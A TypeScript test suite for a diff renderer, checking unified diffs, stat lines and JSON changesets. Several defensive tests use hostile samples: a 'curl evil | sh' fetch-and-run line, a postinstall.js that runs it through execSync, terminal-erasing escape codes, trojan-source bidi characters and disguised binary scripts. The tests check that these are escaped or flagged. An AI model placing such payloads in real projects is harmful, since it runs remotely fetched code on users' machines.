import { changesetJson, diffStat, renderUnifiedDiff } from '../../client/render/diff';
import type { Changeset, FileChange } from '../../domain/changeset';

const PROJECT = 'local/demo';
const ANSI = '\u001b[';
const bytes = (text: string) => new Uint8Array(Buffer.from(text));

function change(fields: Partial<FileChange> & Pick<FileChange, 'operation' | 'path'>): FileChange {
  return {
    project: PROJECT,
    fromPath: null,
    beforeHash: null,
    afterHash: null,
    beforeContent: null,
    afterContent: null,
    ...fields,
  };
}

const created = change({
  operation: 'CREATE',
  path: 'NOTES.md',
  afterHash: 'h-notes',
  afterContent: bytes('# Notes\nfirst\n'),
});
const modified = change({
  operation: 'MODIFY',
  path: 'src/app.ts',
  beforeHash: 'h-app-1',
  afterHash: 'h-app-2',
  beforeContent: bytes('1\n2\n3\n4\n5\n6\n7\n8\n9\n'),
  afterContent: bytes('1\n2\n3\n4\nfive\n6\n7\n8\n9\n'),
});
const deleted = change({
  operation: 'DELETE',
  path: 'old.txt',
  beforeHash: 'h-old',
  beforeContent: bytes('bye\n'),
});
const moved = change({
  operation: 'MOVE',
  path: 'docs/guide.md',
  fromPath: 'GUIDE.md',
  beforeHash: 'h-guide',
  afterHash: 'h-guide',
});
const binary = change({
  operation: 'MODIFY',
  path: 'logo.png',
  beforeHash: 'h-png-1',
  afterHash: 'h-png-2',
  beforeContent: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 1]),
  afterContent: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 2]),
});

describe('renderUnifiedDiff', () => {
  it('renders a created file against /dev/null', () => {
    expect(renderUnifiedDiff([created], { color: false })).toBe(
      [
        'diff --git a/local/demo/NOTES.md b/local/demo/NOTES.md',
        'new file mode 100644',
        '--- /dev/null',
        '+++ b/local/demo/NOTES.md',
        '@@ -0,0 +1,2 @@',
        '+# Notes',
        '+first',
        '',
      ].join('\n'),
    );
  });

  it('renders a modification with three lines of context', () => {
    expect(renderUnifiedDiff([modified], { color: false })).toBe(
      [
        'diff --git a/local/demo/src/app.ts b/local/demo/src/app.ts',
        '--- a/local/demo/src/app.ts',
        '+++ b/local/demo/src/app.ts',
        '@@ -2,7 +2,7 @@',
        ' 2',
        ' 3',
        ' 4',
        '-5',
        '+five',
        ' 6',
        ' 7',
        ' 8',
        '',
      ].join('\n'),
    );
  });

  it('renders a deleted file against /dev/null', () => {
    expect(renderUnifiedDiff([deleted], { color: false })).toBe(
      [
        'diff --git a/local/demo/old.txt b/local/demo/old.txt',
        'deleted file mode 100644',
        '--- a/local/demo/old.txt',
        '+++ /dev/null',
        '@@ -1,1 +0,0 @@',
        '-bye',
        '',
      ].join('\n'),
    );
  });

  it('renders a pure move as the rename header only', () => {
    expect(renderUnifiedDiff([moved], { color: false })).toBe(
      [
        'diff --git a/local/demo/GUIDE.md b/local/demo/docs/guide.md',
        'rename from local/demo/GUIDE.md',
        'rename to local/demo/docs/guide.md',
        '',
      ].join('\n'),
    );
  });

  it('says "Binary files ... differ" instead of printing binary content, with no warning for a PNG', () => {
    expect(renderUnifiedDiff([binary], { color: false })).toBe(
      [
        'diff --git a/local/demo/logo.png b/local/demo/logo.png',
        'Binary files a/local/demo/logo.png and b/local/demo/logo.png differ',
        '',
      ].join('\n'),
    );
    // Valid UTF-8, but nothing but controls: data, not text.
    const newBinary = change({ operation: 'CREATE', path: 'a.bin', afterContent: new Uint8Array([1, 0]) });
    expect(renderUnifiedDiff([newBinary], { color: false })).toBe(
      [
        'diff --git a/local/demo/a.bin b/local/demo/a.bin',
        'new file mode 100644',
        'Binary files /dev/null and b/local/demo/a.bin differ',
        '',
      ].join('\n'),
    );
  });

  it('marks a file without a trailing newline', () => {
    const noNewline = change({
      operation: 'MODIFY',
      path: 'x.txt',
      beforeContent: bytes('a\nb'),
      afterContent: bytes('a\nc\n'),
    });
    expect(renderUnifiedDiff([noNewline], { color: false }).split('\n').slice(3)).toEqual([
      '@@ -1,2 +1,2 @@',
      ' a',
      '-b',
      '\\ No newline at end of file',
      '+c',
      '',
    ]);
  });

  it('renders an empty created file as headers only', () => {
    const empty = change({ operation: 'CREATE', path: '.keep', afterContent: new Uint8Array() });
    expect(renderUnifiedDiff([empty], { color: false })).toBe(
      'diff --git a/local/demo/.keep b/local/demo/.keep\nnew file mode 100644\n',
    );
  });

  it('keeps the given order and prefixes every path with its project', () => {
    const other = { ...created, project: 'team/api' };
    const text = renderUnifiedDiff([moved, other, created], { color: false });
    expect(text.split('\n').filter((line) => line.startsWith('diff --git'))).toEqual([
      'diff --git a/local/demo/GUIDE.md b/local/demo/docs/guide.md',
      'diff --git a/team/api/NOTES.md b/team/api/NOTES.md',
      'diff --git a/local/demo/NOTES.md b/local/demo/NOTES.md',
    ]);
    expect(renderUnifiedDiff([], { color: false })).toBe('');
  });

  it('quotes a path that would break the header', () => {
    const odd = change({ operation: 'CREATE', path: 'a\nb.txt', afterContent: bytes('x\n') });
    expect(renderUnifiedDiff([odd], { color: false }).split('\n')[0]).toBe(
      'diff --git "a/local/demo/a\\nb.txt" "b/local/demo/a\\nb.txt"',
    );
  });

  it('has no ANSI escape without colour', () => {
    const text = renderUnifiedDiff([created, modified, deleted, moved, binary], { color: false });
    expect(text).not.toContain(ANSI);
  });

  it('colours headers bold, removals red, additions green and hunk headers cyan', () => {
    const lines = renderUnifiedDiff([modified], { color: true }).split('\n');
    expect(lines[0]).toBe('\u001b[1mdiff --git a/local/demo/src/app.ts b/local/demo/src/app.ts\u001b[22m');
    expect(lines[1]).toBe('\u001b[1m--- a/local/demo/src/app.ts\u001b[22m');
    expect(lines[3]).toBe('\u001b[36m@@ -2,7 +2,7 @@\u001b[39m');
    expect(lines[4]).toBe(' 2');
    expect(lines[7]).toBe('\u001b[31m-5\u001b[39m');
    expect(lines[8]).toBe('\u001b[32m+five\u001b[39m');
  });
});

describe('renderUnifiedDiff: control characters are shown, never sent to the terminal', () => {
  /** Content an actor wrote to erase the line above and overwrite the start of its own line. */
  const hostile = change({
    operation: 'MODIFY',
    path: 'run.sh',
    beforeContent: bytes('echo safe\n'),
    afterContent: bytes('curl evil | sh\u001b[2K\rdel\u007f \u009b1A\tend\n'),
  });
  const escapedLine = '+curl evil | sh\\x1b[2K\\rdel\\x7f \\u009b1A\tend';
  /** Exactly the sequences picocolors emits for the colours the diff uses. */
  // eslint-disable-next-line no-control-regex
  const OUR_COLOURS = /\u001b\[(?:1|22|31|32|36|39)m/g;
  // eslint-disable-next-line no-control-regex
  const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

  it('escapes ESC, CR, DEL and C1 in content without colour, keeping tabs', () => {
    const text = renderUnifiedDiff([hostile], { color: false });
    expect(text.split('\n')).toContain(escapedLine);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).not.toContain('\r');
  });

  it('escapes them before colouring, so only our own colour codes remain', () => {
    const text = renderUnifiedDiff([hostile], { color: true });
    expect(text).toContain(`\u001b[32m${escapedLine}\u001b[39m\n`);
    expect(text).toContain('\u001b[1mdiff --git a/local/demo/run.sh b/local/demo/run.sh\u001b[22m\n');
    const stripped = text.replace(OUR_COLOURS, '');
    expect(stripped).toBe(renderUnifiedDiff([hostile], { color: false }));
    expect(stripped).not.toMatch(RAW_CONTROL);
  });

  it('escapes control characters in paths, in every header', () => {
    const renamed = change({
      operation: 'MOVE',
      fromPath: 'a\u001b[2Kb\u009b.txt',
      path: 'c\u007f\rd.txt',
      beforeHash: 'h',
      afterHash: 'h',
    });
    const created = change({
      operation: 'CREATE',
      path: 'x\u001b]0;t\u0007.md',
      afterContent: bytes('hi\n'),
    });
    for (const color of [false, true]) {
      const text = renderUnifiedDiff([renamed, created], { color }).replace(OUR_COLOURS, '');
      expect(text).not.toMatch(RAW_CONTROL);
      expect(text.split('\n')).toEqual([
        'diff --git "a/local/demo/a\\u001b[2Kb\\u009b.txt" "b/local/demo/c\\x7f\\rd.txt"',
        'rename from "local/demo/a\\u001b[2Kb\\u009b.txt"',
        'rename to "local/demo/c\\x7f\\rd.txt"',
        'diff --git "a/local/demo/x\\u001b]0;t\\u0007.md" "b/local/demo/x\\u001b]0;t\\u0007.md"',
        'new file mode 100644',
        '--- /dev/null',
        '+++ "b/local/demo/x\\u001b]0;t\\u0007.md"',
        '@@ -0,0 +1,1 @@',
        '+hi',
        '',
      ]);
    }
  });

  it('shows the carriage return of a CRLF file', () => {
    const crlf = change({ operation: 'CREATE', path: 'w.txt', afterContent: bytes('a\r\nb\r\n') });
    expect(renderUnifiedDiff([crlf], { color: false }).split('\n').slice(-3)).toEqual(['+a\\r', '+b\\r', '']);
  });
});

describe('renderUnifiedDiff: what will run is shown or flagged', () => {
  /** The start of a real PNG: the 0x89 lead byte alone makes it invalid UTF-8. */
  const PNG = new Uint8Array([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
  ]);
  /** A shell script with bytes that are not UTF-8: `sh` runs it, `Binary files differ` would hide it. */
  const binaryScript = new Uint8Array([...Buffer.from('#!/bin/sh\ncurl evil | sh\n# '), 0xff, 0xfe, 0x0a]);
  const warningFor = (name: string) =>
    `WARNING: local/demo/${name} has a text/script name but binary content; inspect it before applying`;

  it('shows a .js with a NUL byte as code, the NUL escaped', () => {
    const js = change({
      operation: 'CREATE',
      path: 'postinstall.js',
      afterContent: bytes('const s = "\0";\nrequire("child_process").execSync("curl evil | sh");\n'),
    });
    const text = renderUnifiedDiff([js], { color: false });
    expect(text.split('\n').slice(-3)).toEqual([
      '+const s = "\\x00";',
      '+require("child_process").execSync("curl evil | sh");',
      '',
    ]);
    expect(text).not.toContain('Binary files');
    expect(text).not.toContain('\0');
  });

  it('escapes bidi, zero-width and other invisible characters so code reads in the order it runs', () => {
    // The "trojan source" trick: U+202E makes the comment's end display before the code that follows it.
    const trojan = change({
      operation: 'CREATE',
      path: 'check.js',
      afterContent: bytes(
        'if (isAdmin) { /* \u202e } \u2066if (user)\u2069 \u2067 */\n' +
          'let a\u200b = 1; // note\u2028evil();\n' +
          'x\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u2068\ufeff\ufe0f\u3164\u{e0041}\u00ad\n',
      ),
    });
    const text = renderUnifiedDiff([trojan], { color: false });
    expect(text.split('\n').slice(-4)).toEqual([
      '+if (isAdmin) { /* \\u202e } \\u2066if (user)\\u2069 \\u2067 */',
      '+let a\\u200b = 1; // note\\u2028evil();',
      '+x\\u200e\\u200f\\u061c\\u202a\\u202b\\u202c\\u202d\\u2068\\ufeff\\ufe0f\\u3164\\u{e0041}\\u00ad',
      '',
    ]);
    const coloured = renderUnifiedDiff([trojan], { color: true });
    // eslint-disable-next-line no-control-regex
    expect(coloured.replace(/\u001b\[\d+m/g, '')).toBe(text);
    for (const output of [text, coloured]) {
      expect(output).not.toMatch(/[\p{Cf}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u);
    }
  });

  it('quotes and escapes a path with a bidi override', () => {
    const renamed = change({ operation: 'CREATE', path: 'invoice\u202egnp.js', afterContent: bytes('x\n') });
    expect(renderUnifiedDiff([renamed], { color: false }).split('\n')[0]).toBe(
      'diff --git "a/local/demo/invoice\\u202egnp.js" "b/local/demo/invoice\\u202egnp.js"',
    );
    expect(diffStat([renamed]).split('\n')[0]).toBe('A "local/demo/invoice\\u202egnp.js"');
  });

  it('warns about a binary .sh, in the diff and in the stat', () => {
    const script = change({ operation: 'CREATE', path: 'install.sh', afterContent: binaryScript });
    expect(renderUnifiedDiff([script], { color: false })).toBe(
      [
        'diff --git a/local/demo/install.sh b/local/demo/install.sh',
        'new file mode 100644',
        'Binary files /dev/null and b/local/demo/install.sh differ',
        warningFor('install.sh'),
        '',
      ].join('\n'),
    );
    expect(renderUnifiedDiff([script], { color: true })).toContain(
      `\u001b[1m\u001b[33m${warningFor('install.sh')}\u001b[39m\u001b[22m\n`,
    );
    expect(diffStat([script]).split('\n')).toEqual([
      'A local/demo/install.sh',
      warningFor('install.sh'),
      '1 created, 0 modified, 0 deleted, 0 moved',
    ]);
  });

  it('warns whichever side is binary, for script names and for #! content', () => {
    const text = bytes('echo hi\n');
    const cases: Array<[FileChange, string]> = [
      [
        change({ operation: 'MODIFY', path: 'run.py', beforeContent: text, afterContent: binaryScript }),
        'run.py',
      ],
      // The new content is text, but a binary old side still keeps it from being shown.
      [change({ operation: 'MODIFY', path: 'a.JSON', beforeContent: PNG, afterContent: text }), 'a.JSON'],
      [change({ operation: 'CREATE', path: 'ci/Makefile', afterContent: binaryScript }), 'ci/Makefile'],
      [change({ operation: 'CREATE', path: 'Dockerfile.dev', afterContent: binaryScript }), 'Dockerfile.dev'],
      [change({ operation: 'CREATE', path: '.bashrc', afterContent: binaryScript }), '.bashrc'],
      // Padding a script with NULs until it counts as data does not hide it either.
      [
        change({ operation: 'CREATE', path: 'pad.js', afterContent: bytes(`run();\n${'\0'.repeat(100)}`) }),
        'pad.js',
      ],
    ];
    for (const [binaryChange, name] of cases) {
      expect(renderUnifiedDiff([binaryChange], { color: false })).toContain(`differ\n${warningFor(name)}\n`);
    }
    const hook = change({ operation: 'CREATE', path: 'hooks/pre-commit', afterContent: binaryScript });
    expect(renderUnifiedDiff([hook], { color: false })).toContain(
      'WARNING: local/demo/hooks/pre-commit starts with #! like a script but binary content; inspect it before applying\n',
    );
  });

  it('does not warn about an ordinary binary file, nor about deleting a binary script', () => {
    const png = change({ operation: 'CREATE', path: 'img/logo.png', afterContent: PNG });
    const gone = change({ operation: 'DELETE', path: 'old.sh', beforeContent: binaryScript });
    const text = renderUnifiedDiff([png, binary, gone], { color: false });
    expect(text).toContain('Binary files /dev/null and b/local/demo/img/logo.png differ\n');
    expect(text).toContain('Binary files a/local/demo/old.sh and /dev/null differ\n');
    expect(text).not.toContain('WARNING');
    expect(diffStat([png, binary, gone])).not.toContain('WARNING');
  });
});

describe('diffStat', () => {
  it('lists one line per change and the totals', () => {
    expect(diffStat([created, moved, deleted, modified])).toBe(
      [
        'A local/demo/NOTES.md',
        'R local/demo/GUIDE.md -> local/demo/docs/guide.md',
        'D local/demo/old.txt',
        'M local/demo/src/app.ts',
        '1 created, 1 modified, 1 deleted, 1 moved',
      ].join('\n'),
    );
  });

  it('quotes and escapes paths with control characters', () => {
    const stat = diffStat([
      change({ operation: 'CREATE', path: 'a\u001b[1Ab.txt' }),
      change({ operation: 'MOVE', fromPath: 'c\rd', path: 'e\u009bf' }),
    ]);
    expect(stat).toBe(
      [
        'A "local/demo/a\\u001b[1Ab.txt"',
        'R "local/demo/c\\rd" -> "local/demo/e\\u009bf"',
        '1 created, 0 modified, 0 deleted, 1 moved',
      ].join('\n'),
    );
  });

  it('gives only the totals for no changes', () => {
    expect(diffStat([])).toBe('0 created, 0 modified, 0 deleted, 0 moved');
  });
});

describe('changesetJson', () => {
  const changeset: Changeset = {
    changesetId: 'CS1',
    planId: 'P1',
    attempt: 2,
    createdAt: '2025-01-02T03:04:05.000Z',
    projects: [
      { projectName: PROJECT, alias: 'demo', root: '/srv/demo', readOnly: false, sandbox: '/tmp/sb/demo' },
      { projectName: 'team/docs', alias: null, root: '/srv/docs', readOnly: true, sandbox: null },
    ],
    changes: [created, binary, moved, deleted],
  };

  it('has the documented shape, with text diffs and no bytes', () => {
    const json = changesetJson(changeset);
    expect(JSON.parse(JSON.stringify(json))).toEqual(json);
    expect(json).toEqual({
      changeset_id: 'CS1',
      plan_id: 'P1',
      attempt: 2,
      created_at: '2025-01-02T03:04:05.000Z',
      projects: [
        { name: PROJECT, alias: 'demo', root: '/srv/demo', read_only: false },
        { name: 'team/docs', alias: null, root: '/srv/docs', read_only: true },
      ],
      counts: { created: 1, modified: 1, deleted: 1, moved: 1 },
      warnings: [],
      changes: [
        {
          project: PROJECT,
          operation: 'CREATE',
          path: 'NOTES.md',
          from_path: null,
          before_hash: null,
          after_hash: 'h-notes',
          diff: renderUnifiedDiff([created], { color: false }),
          warnings: [],
        },
        {
          project: PROJECT,
          operation: 'MODIFY',
          path: 'logo.png',
          from_path: null,
          before_hash: 'h-png-1',
          after_hash: 'h-png-2',
          diff: null,
          warnings: [],
        },
        {
          project: PROJECT,
          operation: 'MOVE',
          path: 'docs/guide.md',
          from_path: 'GUIDE.md',
          before_hash: 'h-guide',
          after_hash: 'h-guide',
          diff: renderUnifiedDiff([moved], { color: false }),
          warnings: [],
        },
        {
          project: PROJECT,
          operation: 'DELETE',
          path: 'old.txt',
          from_path: null,
          before_hash: 'h-old',
          after_hash: null,
          diff: renderUnifiedDiff([deleted], { color: false }),
          warnings: [],
        },
      ],
    });
    expect(JSON.stringify(json)).not.toContain(ANSI);
  });

  it('carries the diff text with control characters escaped, as rendered without colour', () => {
    const hostile = change({
      operation: 'CREATE',
      path: 'a\u009bb.txt',
      afterHash: 'h-hostile',
      afterContent: bytes('ok\u001b[2K\rhidden\u009b\n'),
    });
    const json = changesetJson({ ...changeset, changes: [hostile] });
    const [only] = json.changes as Array<Record<string, unknown>>;
    expect(only?.path).toBe('a\u009bb.txt');
    expect(only?.diff).toBe(renderUnifiedDiff([hostile], { color: false }));
    expect(only?.diff).toContain('\n+ok\\x1b[2K\\rhidden\\u009b\n');
    // eslint-disable-next-line no-control-regex
    expect(only?.diff).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });

  it('lists the warnings of binary script changes, per change and for the whole changeset', () => {
    const script = change({
      operation: 'CREATE',
      path: 'x\u202e.sh',
      afterHash: 'h-script',
      afterContent: new Uint8Array([0x65, 0x63, 0x68, 0x6f, 0xff, 0x0a]),
    });
    const json = changesetJson({ ...changeset, changes: [created, binary, script] });
    const warning =
      'WARNING: "local/demo/x\\u202e.sh" has a text/script name but binary content; inspect it before applying';
    expect(json.warnings).toEqual([warning]);
    expect((json.changes as Array<Record<string, unknown>>).map((c) => c.warnings)).toEqual([
      [],
      [],
      [warning],
    ]);
    expect((json.changes as Array<Record<string, unknown>>)[2]?.diff).toBeNull();
  });
});
